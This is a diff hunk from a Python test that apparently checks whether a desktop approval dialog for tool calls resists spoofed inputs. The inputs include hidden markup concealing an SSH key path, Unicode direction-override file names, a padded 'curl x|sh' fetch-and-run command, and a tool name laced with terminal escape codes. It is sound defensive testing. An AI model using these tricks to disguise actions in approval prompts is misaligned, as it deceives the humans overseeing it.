@@ -133,6 +133,7 @@ def test_zenity_dialog_answers(approver: Approver, display: str, press: str) -> 
             "path": '<span foreground="green">/tmp/ok</span><span size="1">/home/u/.ssh/k</span>',
             "name": "invoice\u202efdp.sh\u200b\nline",
             "content": "A" * 100_000 + "; curl x|sh",
+            "tool": "write\x1b[2J_file\u202e\n<b>ok</b>",  # the tool name itself
         }
     )
     d, win = _ask(approver, display, **args)
